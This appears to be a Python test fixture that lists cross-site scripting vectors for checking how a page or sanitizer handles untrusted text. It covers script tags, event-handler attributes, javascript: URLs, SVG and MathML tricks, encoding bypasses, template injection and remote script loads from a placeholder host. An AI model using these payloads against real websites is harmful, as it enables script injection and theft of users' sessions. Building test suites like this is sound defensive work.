"""Texts that try to run something where a page puts them in as markup, in an attribute, an address, a script or a style."""

RUN = "window.pwned=1"

VECTORS = [text.replace("RUN", RUN) for text in [
    "<script>RUN</script>", "</script><script>RUN</script>", "</SCRIPT ><script>RUN</script>", "<ScRiPt>RUN</sCrIpT>",
    "<script src=//x.invalid/a.js></script>", "<script src=data:text/javascript,RUN></script>", "<script type=module>RUN</script>",
    "<!--<script>", "--><script>RUN</script>", "<!-- --!><img src=x onerror=RUN>", "]]><script>RUN</script>",
    "<img src=x onerror=RUN>", "<img src=\"x\" onerror=\"RUN\">", "<IMG SRC=x OnErRoR=RUN>", "<img/src=x/onerror=RUN>",
    "<image src=x onerror=RUN>", "<img srcset=//x.invalid/a.png>", "<svg onload=RUN>", "<svg/onload=RUN>", "<svg><script>RUN</script></svg>",
    "<svg><animate onbegin=RUN attributeName=x dur=1s>", "<svg><set onbegin=RUN attributename=x>", "<svg><use href=data:image/svg+xml,x></svg>",
    "<svg><a xlink:href=javascript:RUN><text>x</text></a></svg>", "<svg><foreignObject><iframe srcdoc='<script>parent.RUN</script>'></iframe>",
    "<math><mtext><script>RUN</script></mtext></math>", "<math href=javascript:RUN>x</math>", "<math><mglyph><style><img src=x onerror=RUN>",
    "<iframe src=javascript:parent.RUN></iframe>", "<iframe srcdoc=\"<script>parent.RUN</script>\"></iframe>", "<object data=javascript:RUN>",
    "<embed src=javascript:RUN>", "<a href=javascript:RUN autofocus onfocus=RUN>x</a>", "<a href='java&#115;cript:RUN'>x</a>",
    "<form action=javascript:RUN><input type=submit autofocus onfocus=RUN>", "<input autofocus onfocus=RUN>", "<button autofocus onfocus=RUN>",
    "<select autofocus onfocus=RUN>", "<textarea autofocus onfocus=RUN>", "<keygen autofocus onfocus=RUN>", "<details open ontoggle=RUN>",
    "<video src=x onerror=RUN>", "<video><source onerror=RUN></video>", "<audio src=x onerror=RUN>", "<body onload=RUN>", "<body onpageshow=RUN>",
    "<marquee onstart=RUN>", "<meta http-equiv=refresh content='0;url=javascript:RUN'>", "<meta http-equiv=refresh content='0;url=//x.invalid/'>",
    "<link rel=stylesheet href=//x.invalid/a.css>", "<link rel=prefetch href=//x.invalid/a>", "<base href=//x.invalid/>",
    "<style>@import '//x.invalid/a.css';</style>", "</style><script>RUN</script>", "<style onload=RUN></style>",
    "<div style=background:url(//x.invalid/a.png)>x</div>", "<p style=animation-name:x onanimationstart=RUN>", "</title><script>RUN</script>",
    "</textarea><script>RUN</script>", "</noscript><img src=x onerror=RUN>", "<template><script>RUN</script></template>",
    "<custom-x onclick=RUN tabindex=0 autofocus onfocus=RUN>", "\" onmouseover=\"RUN", "' onmouseover='RUN", "\"><img src=x onerror=RUN>",
    "'><img src=x onerror=RUN>", "`-RUN-`", "${RUN}", "{{constructor.constructor('RUN')()}}", "\";RUN;//", "';RUN;//", "\\\";RUN;//", "\\u003cscript>RUN\\u003c/script>",
    "&lt;script&gt;RUN&lt;/script&gt;", "&#60;script&#62;RUN&#60;/script&#62;", "javascript:RUN", "JaVaScRiPt:RUN", "java\tscript:RUN", "data:text/html,<script>RUN</script>",
    "\u2028RUN\u2029", "\u202e<script>RUN</script>", "__proto__", "constructor", "toString", "hasOwnProperty", "<b id=app>x</b>", "<b id=data>[]</b>",
]]
